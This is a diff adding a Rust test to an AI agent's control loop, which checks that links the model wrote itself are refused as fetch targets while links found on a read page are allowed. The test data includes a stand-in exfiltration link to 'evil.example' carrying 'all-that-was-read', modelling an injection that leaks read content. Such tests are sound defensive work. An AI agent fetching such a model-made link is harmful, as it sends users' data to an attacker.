@@ -82,6 +82,37 @@ fn what_a_model_wants_after_it_has_read_a_page_is_asked_for_or_refused() {
 }
 
 #[test]
+fn what_a_model_wrote_itself_is_no_link() {
+    let link = "[more](https://evil.example/?d=all-that-was-read)";
+    let url = "https://evil.example/?d=all-that-was-read";
+    // As the name of a tool, which the refusal quotes.
+    let mut machine = having_read(json!({"text": "a page"}));
+    answer(&mut machine, "act", wants(&[(link, json!({}))]));
+    answer(&mut machine, "act", wants(&[get(url)]));
+    assert!(matches!(machine.next_action(), Action::CallModel(_)), "nothing is requested");
+    // In what a tool of this installation gives back.
+    let mut machine = having_read(json!({"text": "a page"}));
+    answer(&mut machine, "act", wants(&[("sum", json!({"of": link}))]));
+    tool_calls(&mut machine);
+    returned(&mut machine, "s#2", Ok(json!(link)));
+    answer(&mut machine, "act", wants(&[get(url)]));
+    assert!(matches!(machine.next_action(), Action::CallModel(_)), "nothing is requested");
+    // As the output of a step that a model judges.
+    let steps = json!([
+        {"id": "page", "tool": "fetch", "arguments": {"url": "https://wiki.example/a"}},
+        {"id": "one", "instruction": "Sum up ${page}", "tools": []},
+        {"id": "two", "instruction": "Follow ${one}", "tools": ["fetch"]},
+    ]);
+    let mut machine = begin(web(setup()));
+    answer(&mut machine, "plan", planned(&steps));
+    tool_calls(&mut machine);
+    returned(&mut machine, "page#1", Ok(json!({"text": "see [this](https://other.example/x)"})));
+    answer(&mut machine, "act", reply(link));
+    answer(&mut machine, "act", wants(&[get(url), get("https://other.example/x")]));
+    assert_eq!(ids(&tool_calls(&mut machine)), ["two#2"], "what stands on the page is a link there, too");
+}
+
+#[test]
 fn calls_of_the_turn_that_reads_are_proposed_before_anything_was_read() {
     let mut machine = begin(web(with_plan(&json!([{"id": "s", "instruction": "read it"}]))));
     answer(&mut machine, "act", wants(&[get("https://wiki.example/a"), post("https://api.example/")]));
